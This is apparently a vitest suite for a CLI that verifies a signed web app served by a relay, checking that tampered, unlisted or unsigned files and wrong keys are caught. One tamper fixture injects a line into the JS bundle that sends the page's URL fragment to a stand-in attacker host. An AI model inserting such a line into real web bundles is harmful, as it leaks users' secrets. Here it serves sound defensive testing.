// `securebase verify-web` through the built CLI against a real relay serving a real, signed build
// of the web app from a temp directory: it verifies the genuine app in one line, and names the
// file when any served file changes (index.html, the bundle, sw.js, a file the manifest does not
// list), the key when it is not the expected one, and says plainly when the release is unsigned,
// the address is unreachable or the server is not a Secure Base relay. Exit 0 only when verified.
import { readFileSync } from 'node:fs';
import { chmod, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateReleaseKey, readyCrypto } from '@securebase/crypto';
import { decodeReleaseKeyFile, decodeReleaseManifestJson, encodeReleaseManifestJson, toBase64Url } from '@securebase/protocol';
import { startRelay } from '@securebase/relay';
import { assertCliBuilt, modeOf, sb, tempDir, type RunResult } from './cli-harness.js';
import { buildWebApp, WEB_APP_DIR } from './web-build.js';

const VERSION = (JSON.parse(readFileSync(join(WEB_APP_DIR, 'package.json'), 'utf8')) as { version: string }).version;
const COMMIT = 'test-commit';

let tmp: Awaited<ReturnType<typeof tempDir>>;
let relay: Awaited<ReturnType<typeof startRelay>>;
let webRoot: string;
let releaseKey: string;
let keyFile: string;
let bundlePath: string;

/** The one line a command printed on stderr (asserting there is exactly one). */
function oneErrorLine(result: RunResult): string {
  const lines = result.stderr.trim().split('\n');
  expect(lines, result.stderr).toHaveLength(1);
  expect(result.stdout).toBe('');
  return lines[0] as string;
}

/** Run `body` with one served file changed, then put the genuine bytes back. */
async function withChangedFile(path: string, change: (text: string) => string, body: () => Promise<void>): Promise<void> {
  const file = join(webRoot, path);
  const genuine = await readFile(file);
  await writeFile(file, change(genuine.toString('utf8')));
  try {
    await body();
  } finally {
    await writeFile(file, genuine);
  }
}

beforeAll(async () => {
  assertCliBuilt();
  await readyCrypto();
  tmp = await tempDir('verify-web');
  webRoot = join(tmp.dir, 'web');
  // The publisher's way: a key from the CLI, the build signing with it from the file.
  keyFile = join(tmp.dir, 'release-key.json');
  const created = await sb(['release-key', 'create', '--out', keyFile]);
  expect(created.code, created.stderr).toBe(0);
  releaseKey = created.stdout.trim();
  await buildWebApp(webRoot, { SECUREBASE_RELEASE_KEY_FILE: keyFile, SOURCE_COMMIT: COMMIT });
  const bundle = (await readdir(join(webRoot, 'assets'))).find((name) => name.endsWith('.js'));
  if (!bundle) throw new Error('the build has no script bundle');
  bundlePath = `/assets/${bundle}`;
  relay = await startRelay({ host: '127.0.0.1', port: 0, dataDir: join(tmp.dir, 'data'), webRoot });
}, 180_000);

afterAll(async () => {
  await relay?.close();
  await tmp?.cleanup();
});

/**
 * Each check spawns the CLI (one to four times) and builds or fetches the whole app: on a loaded
 * 2-core machine one test can take longer than the default 20 s. A test that times out inside
 * `withChangedFile` keeps running and puts the genuine bytes back only later, under the next
 * test, so a generous budget here keeps one slow test from failing the ones after it.
 */
const CLI_TESTS = { timeout: 120_000 };

describe('securebase release-key create', CLI_TESTS, () => {
  it('writes the secret to a new 0600 file only, prints only the public key, and never overwrites', async () => {
    expect(releaseKey).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(await modeOf(keyFile)).toBe(0o600);
    const file = decodeReleaseKeyFile(await readFile(keyFile, 'utf8'));
    expect(toBase64Url(file.publicKey)).toBe(releaseKey);
    const again = await sb(['release-key', 'create', '--out', keyFile]);
    expect(again.code).toBe(1);
    expect(oneErrorLine(again)).toContain('already exists');
    expect(toBase64Url(decodeReleaseKeyFile(await readFile(keyFile, 'utf8')).seed)).toBe(toBase64Url(file.seed));
  });

  it('is refused by the build when other users can read it', async () => {
    const loose = join(tmp.dir, 'loose-key.json');
    await writeFile(loose, await readFile(keyFile));
    await chmod(loose, 0o644);
    await expect(buildWebApp(join(tmp.dir, 'refused'), { SECUREBASE_RELEASE_KEY_FILE: loose })).rejects.toThrow(/readable by other users/);
  });
});

describe('securebase verify-web', CLI_TESTS, () => {
  it('verifies the genuine web app in one line, with the pinned key or the key it reports', async () => {
    const pinned = await sb(['verify-web', relay.url, `--release-key=${releaseKey}`]);
    expect(pinned).toEqual({ code: 0, stdout: `verified: version ${VERSION} (commit ${COMMIT}) signed by key ${releaseKey}\n`, stderr: '' });

    const keyFile = join(tmp.dir, 'release.pub');
    await writeFile(keyFile, `${releaseKey}\n`);
    expect((await sb(['verify-web', `${relay.url}/`, '--release-key', keyFile])).code).toBe(0);

    const unpinned = await sb(['verify-web', relay.url]);
    expect(unpinned.code).toBe(0);
    expect(unpinned.stdout.trim().split('\n')).toHaveLength(1);
    expect(unpinned.stdout).toContain(`signed by key ${releaseKey} (key not pinned:`);
  });

  it('serves a build with integrity on every script and style and no inline script', async () => {
    const html = await (await fetch(relay.url)).text();
    const tags = [...html.matchAll(/<script\b[^>]*>|<link\b[^>]*rel="(?:stylesheet|modulepreload)"[^>]*>/g)].map((m) => m[0]);
    expect(tags.length).toBeGreaterThanOrEqual(2);
    for (const tag of tags) expect(tag, tag).toMatch(/\sintegrity="sha384-[A-Za-z0-9+/]{64}"/);
    for (const tag of html.matchAll(/<script\b[^>]*>/g)) expect(tag[0]).toMatch(/\ssrc="/);
    expect(html).not.toMatch(/<style\b/);
  });

  it('fails naming the file when index.html, the bundle or sw.js is changed', async () => {
    const pin = [`--release-key=${releaseKey}`];
    await withChangedFile('index.html', (html) => html.replace('</body>', '<!-- changed --></body>'), async () => {
      const result = await sb(['verify-web', relay.url, ...pin]);
      expect(result.code).toBe(1);
      expect(oneErrorLine(result)).toBe(`securebase: NOT verified (version ${VERSION}, commit ${COMMIT}): changed: /, /index.html`);
    });
    await withChangedFile(bundlePath, (code) => `fetch("https://evil.example/"+location.hash);${code}`, async () => {
      const result = await sb(['verify-web', relay.url, ...pin]);
      expect(result.code).toBe(1);
      expect(oneErrorLine(result)).toContain(`: changed: ${bundlePath}`);
    });
    await withChangedFile('sw.js', (code) => `${code}\nself.addEventListener('fetch', () => {});`, async () => {
      const result = await sb(['verify-web', relay.url, ...pin]);
      expect(result.code).toBe(1);
      expect(oneErrorLine(result)).toContain(': changed: /sw.js');
    });
    // Everything put back: verified again.
    expect((await sb(['verify-web', relay.url, ...pin])).code).toBe(0);
  });

  it('names a script the page loads that the manifest does not list', async () => {
    const extra = join(webRoot, 'assets', 'extra.js');
    await writeFile(extra, 'console.log("not in the release")');
    try {
      await withChangedFile('index.html', (html) => html.replace('</head>', '<script type="module" src="/assets/extra.js"></script></head>'), async () => {
        const result = await sb(['verify-web', relay.url, `--release-key=${releaseKey}`]);
        expect(result.code).toBe(1);
        expect(oneErrorLine(result)).toContain('changed: /, /index.html; missing from the manifest: /assets/extra.js');
      });
    } finally {
      await rm(extra);
    }
  });

  it('fails on a wrong release key, and on a release whose signature was stripped', async () => {
    // A key that starts with "-" (base64url has one in 64): given as --release-key=KEY, the form
    // the CLI itself advises, it is read as the key, not as another flag.
    let other = toBase64Url(generateReleaseKey().publicKey);
    while (!other.startsWith('-')) other = toBase64Url(generateReleaseKey().publicKey);
    const wrong = await sb(['verify-web', relay.url, `--release-key=${other}`]);
    expect(wrong.code).toBe(1);
    expect(oneErrorLine(wrong)).toContain(`signed by an unexpected key ${releaseKey} (expected ${other})`);

    await withChangedFile(
      'release-manifest.json',
      (text) => encodeReleaseManifestJson({ ...decodeReleaseManifestJson(text), signature: undefined }),
      async () => {
        for (const args of [[`--release-key=${releaseKey}`], []]) {
          const result = await sb(['verify-web', relay.url, ...args]);
          expect(result.code).toBe(1);
          expect(oneErrorLine(result)).toBe(`securebase: NOT verified (version ${VERSION}, commit ${COMMIT}): unsigned release`);
        }
      },
    );
  });

  it('says in one line that an address is unreachable or not a Secure Base relay', async () => {
    const closed = createServer();
    await new Promise<void>((done) => closed.listen(0, '127.0.0.1', done));
    const port = (closed.address() as AddressInfo).port;
    await new Promise<void>((done) => closed.close(() => done()));
    const unreachable = await sb(['verify-web', `http://127.0.0.1:${port}`]);
    expect(unreachable.code).toBe(1);
    expect(oneErrorLine(unreachable)).toBe(`securebase: could not reach http://127.0.0.1:${port}: check the address and that the relay is running.`);

    const other = createServer((_req, res) => res.writeHead(404, { 'content-type': 'text/plain' }).end('not here'));
    await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
    try {
      const url = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
      const result = await sb(['verify-web', url]);
      expect(result.code).toBe(1);
      expect(oneErrorLine(result)).toBe(`securebase: ${url} does not serve a Secure Base web app with a release manifest (/release-manifest.json answered 404).`);
    } finally {
      await new Promise<void>((done) => other.close(() => done()));
    }
  });

  it('exits 2 for a usage error', async () => {
    for (const args of [['verify-web'], ['verify-web', 'ftp://relay.example'], ['verify-web', relay.url, '--release-key', 'not-a-key']]) {
      const result = await sb(args);
      expect(result.code, args.join(' ')).toBe(2);
      oneErrorLine(result);
    }
  });
});
